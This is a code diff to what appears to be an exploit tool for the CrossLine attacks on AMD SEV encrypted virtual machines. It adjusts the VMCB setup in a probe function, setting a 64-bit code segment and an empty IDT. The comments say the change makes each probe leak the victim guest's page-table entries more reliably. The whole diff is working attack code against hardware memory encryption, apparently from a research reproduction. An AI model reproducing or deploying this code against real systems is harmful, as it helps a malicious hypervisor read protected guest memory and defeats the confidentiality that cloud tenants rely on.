@@ -284,6 +284,7 @@ def _xor(x: bytes, y: bytes) -> bytes:
     return bytes(p ^ q for p, q in zip(x, y, strict=True))
 
 
+CODE64_ATTRIB, DATA_ATTRIB = 0xA9B, 0xC93  # VMCB segment attributes: 64-bit code, flat data
 ATTACKER_CR3_GPA = 0x7FFF_F000  # far above the victim's memory: never a leaked GPA
 PAGE = 4096
 
@@ -394,6 +395,12 @@ def _probe(core, vcpu, asid: int, slot: int) -> int | None:
     if slot >= 256:  # canonical: bits 63:48 copy bit 47
         rip |= 0xFFFF_0000_0000_0000
     vcpu.set_vmcb(
+        cs_selector=0x18,  # a 64-bit code segment: RIP is the linear address the walk uses
+        cs_base=0,
+        cs_limit=0xFFFF_FFFF,
+        cs_attrib=CODE64_ATTRIB,
+        idtr_base=0,  # no IDT: a #PF (a non-present entry) is a shutdown, not a walk of its
+        idtr_limit=0,  # gate at a linear address, which would leak entry 0 every time
         asid=asid,
         nested_ctl=NP_ENABLE | SEV_ENABLE,
         tlb_control=TLB_CONTROL_FLUSH_ASID,
@@ -411,7 +418,6 @@ def _probe(core, vcpu, asid: int, slot: int) -> int | None:
 
 
 # ---- CrossLine variant 2: the victim's own instructions as a decryption oracle ------------
-CODE64_ATTRIB, DATA_ATTRIB = 0xA9B, 0xC93  # VMCB segment attributes: 64-bit code, flat data
 
 
 @attack(
